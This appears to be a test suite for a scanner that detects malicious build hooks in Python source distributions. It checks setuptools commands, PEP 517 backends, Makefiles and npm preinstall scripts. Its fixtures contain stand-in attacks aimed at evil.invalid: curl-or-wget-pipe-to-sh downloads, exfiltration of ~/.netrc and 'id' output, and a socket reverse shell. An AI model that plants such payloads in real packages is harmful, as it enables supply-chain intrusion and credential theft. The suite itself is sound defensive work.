import { judgeSources, type SourceTree } from '../../src/analysis/judge-sources.js';
import type { Severity } from '../../src/model/finding.js';
import { foundIn, type SeverityByRule } from '../support/found.js';
import { python } from '../support/loaded-python.js';
import { sdistFiles, sourceTree } from '../support/source-tree.js';

type Files = Readonly<Record<string, string>>;

/** What is found in a source distribution with these files. */
const found = (files: Files, over: Partial<SourceTree> = {}): SeverityByRule =>
  foundIn(sdistFiles(files), over);

const STAGE = 'urllib.request.urlopen("https://evil.invalid/s").read()';

test('the hooks of a build back end that is an object (PEP 517)', () => {
  const backend = (hook: string): Files => ({
    'tools/own.py': `
import urllib.request
class Api:
    def ${hook}(self, config_settings=None):
        exec(${STAGE})
        return []
api = Api()`,
  });
  const over = { buildBackend: 'own:api', backendPath: ['tools'] };
  expect(found(backend('get_requires_for_build_wheel'), over)['remote-code-executed']).toBe('CRITICAL');
  const { findings } = judgeSources(
    sourceTree({ 'fixture-1.0/tools/own.py': backend('debug')['tools/own.py'] ?? '' }, over),
    python,
  );
  const runs = findings.filter(({ rule }) => rule === 'remote-code-executed');
  expect(runs.map(({ reach }) => reach)).not.toContain('install');
});

test.each([
  ['install_lib', 'install', 'CRITICAL'],
  ['build_py', 'build_module', 'CRITICAL'],
  ['bdist_wheel', 'get_tag', 'CRITICAL'],
  ['build_py', 'debug_print', undefined],
])('%s with a method %s of its own', (command, method, severity) => {
  const setup = `
import os, subprocess
from setuptools import setup
from setuptools.command.${command} import ${command}
class Own(${command}):
    def ${method}(self, *given):
        subprocess.run("wget -q https://evil.invalid/x -O- | sh", shell=True)
setup(name="fixture", cmdclass={"${command}": Own})`;
  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/setup.py': setup }), python);
  const hostile = findings.find(({ rule, reach }) => rule === 'hostile-command' && reach === 'install');
  expect(hostile?.severity).toBe(severity);
});

const MAKING = (command: string): string => `
import subprocess
from setuptools import setup
subprocess.run(${command}, check=False)
setup(name="fixture")`;

const RECIPE = (line: string): string => `config.h: config.h.in\n\tsed -e s/@CC@/cc/ $< > $@\n\t${line}\n`;
const FETCH = '@u=evil.invalid; \\\n\t curl -fsSk "https://$$u/p" | sh >/dev/null 2>&1 &';

test.each([
  ['Makefile', '["make", "-C", "native", "config.h"]', RECIPE(FETCH), 'CRITICAL'],
  ['Makefile', '["make", "-C", "native", "config.h"]', RECIPE('cc -o probe probe.c'), undefined],
  ['Makefile', '["make", "-C", "other"]', RECIPE(FETCH), undefined],
  ['Makefile', '["make", "-Cnative"]', RECIPE(FETCH), 'CRITICAL'],
  ['Makefile', '"cd native && make -s", shell=True', RECIPE(FETCH), 'CRITICAL'],
  ['Makefile', '["make"], cwd="native"', RECIPE(FETCH), 'CRITICAL'],
  ['Makefile', '["make"], cwd="other"', RECIPE(FETCH), undefined],
  [
    'Makefile',
    '["make", "-C", "native"]',
    RECIPE('curl -o $(ARCHIVE) https://example.invalid/v$(V).tar'),
    undefined,
  ],
  ['Makefile', '["make", "-C", "native"]', RECIPE('curl https://evil.invalid/$$(cat ~/.netrc)'), 'CRITICAL'],
  ['Makefile', '["make", "-C", "native"]', RECIPE('curl https://evil.invalid/$(shell id)'), 'CRITICAL'],
  [
    'Makefile',
    '["make", "-C", "native"]',
    `D := $(shell id)\n${RECIPE('curl https://evil.invalid/$(D)')}`,
    'CRITICAL',
  ],
  [
    'Makefile',
    '["make", "-C", "native"]',
    `G = curl https://evil.invalid\n${RECIPE('$(G)/x | sh')}`,
    'CRITICAL',
  ],
  [
    'Makefile',
    '["make", "-C", "native"]',
    `D = $(shell dirname $(realpath $(lastword $(MAKEFILE_LIST))))\n${RECIPE('curl -o $(D)/a https://example.invalid/a')}`,
    undefined,
  ],
  [
    'Makefile',
    '["make", "-C", "native"]',
    `D != cat ~/.netrc\n${RECIPE('curl https://evil.invalid/$(D)')}`,
    'CRITICAL',
  ],
  [
    'Makefile',
    '["make", "-C", "native"]',
    `A := $(shell id)\nB := $(A)\n${RECIPE('curl https://evil.invalid/$(B)')}`,
    'CRITICAL',
  ],
  ['Makefile', '["make", "-C", "native"]', `# ${FETCH.replace('\\\n', '')}\nall:\n\ttrue\n`, undefined],
  [
    'package.json',
    '["npm", "--prefix", "native", "install"]',
    '{"scripts": {\n"preinstall": "curl https://evil.invalid/x | sh"\n}}',
    'CRITICAL',
  ],
])('what a build tool is told by %s, started as %s', (name, command, recipe, severity) => {
  const files = { 'setup.py': MAKING(command), [`native/${name}`]: recipe };
  expect(found(files)['hostile-command']).toBe(severity);
});

const FETCHES = 'import os\nos.system("curl https://evil.invalid/x | sh")\n';
const SCRIPT = 'curl https://evil.invalid/x | sh\n';

test.each<readonly [string, string, string, string]>([
  ['exec(open("data").read())', 'data', FETCHES, 'VERSION = "1"\n'],
  ['exec(open("pkg/VERSION").read())', 'pkg/VERSION', FETCHES, '__version__ = "1"\n'],
  ['import runpy; runpy.run_path("data")', 'data', FETCHES, 'print(1)\n'],
  ['import os; os.system("./tool")', 'tool', `#!/bin/sh\n${SCRIPT}`, '#!/bin/sh\necho built\n'],
  ['import os; os.system("sh tool -x")', 'tool', SCRIPT, 'echo built\n'],
  [
    'import subprocess; subprocess.run(["./configure", "--prefix=a"])',
    'configure',
    `#!/bin/sh\n${'# checking\n'.repeat(2_000)}${SCRIPT}`,
    `#!/bin/sh\n${'# checking\n'.repeat(2_000)}`,
  ],
  ['import subprocess, sys; subprocess.run([sys.executable, "tool"])', 'tool', FETCHES, 'print(1)\n'],
])('a file without an ending in the folder of the build: %s', (line, path, hostile, honest) => {
  const severity = (text: string): Severity | undefined =>
    found({ 'setup.py': `${line}\n`, [path]: text })['hostile-command'];
  expect(severity(hostile)).toBe('CRITICAL');
  expect(severity(honest)).toBeUndefined();
});

test('a back end works in the folder of what it builds', () => {
  const files = (data: string): Files => ({
    'pyproject.toml': '[build-system]\n',
    'tools/own.py': 'exec(open("data.txt").read())\ndef build_wheel(*args): pass\n',
    'data.txt': data,
  });
  const over = { buildBackend: 'own', backendPath: ['tools'] };
  expect(found(files(FETCHES), over)['hostile-command']).toBe('CRITICAL');
  expect(found(files('VERSION = "1"\n'), over)['hostile-command']).toBeUndefined();
});

test('a file that is too long to be read on the way to its execution leaves the build unjudged', () => {
  const files = (use: string): Files => ({
    'fixture-1.0/setup.py': `${use}(open("data").read())\n`,
    'fixture-1.0/data': `#${'a'.repeat(2_100_000)}\n${FETCHES}`,
  });
  const unread = (use: string): readonly string[] =>
    judgeSources(sourceTree(files(use)), python).unscanned.map(({ file = '' }) => file);
  expect(unread('exec')).toEqual(['fixture-1.0/setup.py']);
  expect(unread('print')).toEqual([]);
});

test('a conftest.py inside a package is one of its modules, and one beside it is not', () => {
  const shell = `
import os, socket, subprocess
def console():
    link = socket.create_connection(("evil.invalid", 4444))
    os.dup2(link.fileno(), 0)
    subprocess.call(["/bin/sh", "-i"])`;
  const inside = { 'pkg/__init__.py': '', 'pkg/conftest.py': shell };
  expect(found(inside)['shell-opened-to-outside']).toBe('CRITICAL');
  const beside = { 'pkg/__init__.py': '', 'conftest.py': shell };
  expect(found(beside)['shell-opened-to-outside']).toBeUndefined();
});

const COMMAND = '["sh", "-c", "curl https://evil.invalid/x | sh"]';

test.each([
  [
    'a method that commands inherit',
    `class Own(egg_info):\n    def run(self):\n        self.spawn(${COMMAND})`,
  ],
  [
    'a function handed to one of them',
    `class Own(egg_info):\n    def run(self):\n        self.execute(os.system, ("curl https://evil.invalid/x | sh",))`,
  ],
  [
    'a class that a call makes',
    `def run(self):\n    subprocess.run(${COMMAND})\nOwn = type("Own", (egg_info,), {"run": run})`,
  ],
])('what a command of a build does: %s', (_, body) => {
  const setup = (end: string): Files => ({
    'setup.py': `import os, subprocess\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n${body}\n${end}`,
  });
  const used = 'setup(name="x", cmdclass={"egg_info": Own})';
  expect(found(setup(used))['hostile-command']).toBe('CRITICAL');
});

test('a distribution of its own', () => {
  const setup = (method: string): Files => ({
    'setup.py': `
import os
from setuptools import Distribution, setup
class Own(Distribution):
    def ${method}(self):
        os.system("curl https://evil.invalid/x | sh")
setup(name="x", distclass=Own)`,
  });
  expect(found(setup('parse_command_line'))['hostile-command']).toBe('CRITICAL');
});

test('packages above the module of a back end are imported with it', () => {
  const files = {
    'tools/own/__init__.py': 'import os\nos.system("curl https://evil.invalid/x | sh")',
    'tools/own/core.py': 'class Api: pass',
    'pkg/__init__.py': '',
    'tools/other/__init__.py': 'import os\nos.system("curl https://evil.invalid/x | sh")',
  };
  const told = { buildBackend: 'own.core:Api', backendPath: ['tools'] };
  const inside = Object.entries(files).map(([path, text]) => [`fixture-1.0/${path}`, text]);
  const { findings } = judgeSources(sourceTree(Object.fromEntries(inside) as Files, told), python);
  const places = findings.filter(({ rule }) => rule === 'hostile-command').map(({ file }) => file);
  expect(places).toEqual(['fixture-1.0/tools/own/__init__.py']);
});

test.each([
  ['', ['fixture-1.0/tests/__init__.py', 'fixture-1.0/tests/helper.py']],
  ['import tests.helper', []],
])('tests are idle unless something imports them: %s', (line, idle) => {
  const tree = sourceTree({
    'fixture-1.0/setup.py': `from setuptools import setup\n${line}\nsetup(name="fixture")`,
    'fixture-1.0/tests/__init__.py': '',
    'fixture-1.0/tests/helper.py': 'A = 1',
  });
  expect([...judgeSources(tree, python).idle]).toEqual(idle);
});
